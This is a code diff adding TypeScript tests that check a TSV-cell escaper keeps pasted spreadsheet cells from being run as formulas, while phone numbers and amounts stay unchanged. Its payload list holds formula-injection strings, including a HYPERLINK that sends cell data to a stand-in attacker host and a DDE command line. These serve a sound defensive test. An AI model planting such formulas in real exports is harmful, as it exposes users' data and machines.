@@ -1,5 +1,6 @@
 import { assert, property, string } from 'fast-check'
 import { expect, it } from 'vitest'
+import { corpusStrings } from '#tests/_support/corpora.ts'
 import { tallyOf, tsvCell, valuesOf } from './column-values.ts'
 
 const asked = { search: '', limit: 10, language: 'en' as const }
@@ -35,4 +36,54 @@ it('searches like the table and says how many there are beyond the limit', () =>
 it('never lets a cell end its field or its line', () => {
   assert(property(string({ unit: 'binary' }), (text) => !/[\t\n\r\u2028]/.test(tsvCell(`${text}\t\r\n${text}`))))
   expect(tsvCell('a\tb\r\nc')).toBe('a b c')
+})
+
+/** What a spreadsheet makes of one pasted field: a quoted one is unquoted, the apostrophe marks a text. */
+const pasted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)
+const runs = (text: string) => /^[\s\p{Cc}\p{Cf}]*[=@\uff1d\uff20]|^[\s\p{Cc}\p{Cf}]*[-+\uff0b\uff0d].*[^\d\s.,'’%€$£A-Z]/u.test(text)
+const payloads = [
+  ...corpusStrings('formula.json'),
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "=cmd|'/c calc'!A1",
+  '+1+1',
+  '-2+cmd|x',
+  '@SUM(A1)',
+  '\t=1',
+  '\ufeff=1',
+  '\u200b=1',
+  ' =1',
+  '＝1',
+  '\0=1',
+  '"=1+1"',
+  '"=1+1',
+  '+1-555-0100',
+  '-A1',
+]
+it.each(payloads)('guards %j against being run where it is pasted', (text) => {
+  expect(runs(pasted(tsvCell(text)))).toBe(false)
+  // nothing but one apostrophe stands before what was there
+  expect(pasted(tsvCell(text)).replace(/^'/, '')).toBe(text.replace(/[\t\n\r]+/g, ' '))
+})
+it.each([
+  '-12.50',
+  '-1,250.00\u00a0€',
+  '+33 6 12 34 56 78',
+  '+33612345678',
+  '-5 %',
+  '—',
+  '-',
+  '12/11/2026',
+  "Tomatin 12'",
+  'a=b',
+  '3-4',
+  "'x",
+])('leaves %j as it is', (text) => expect(tsvCell(text)).toBe(text))
+it('keeps a text that begins with a quote in its own cell, whole', () => {
+  expect(tsvCell('"Le Grand')).toBe('"""Le Grand"')
+  assert(
+    property(
+      string({ unit: 'binary' }),
+      (text) => pasted(tsvCell(`"${text}`)) === `"${text}`.replace(/[\t\n\v\f\r\u0085\u2028\u2029]+/g, ' '),
+    ),
+  )
 })
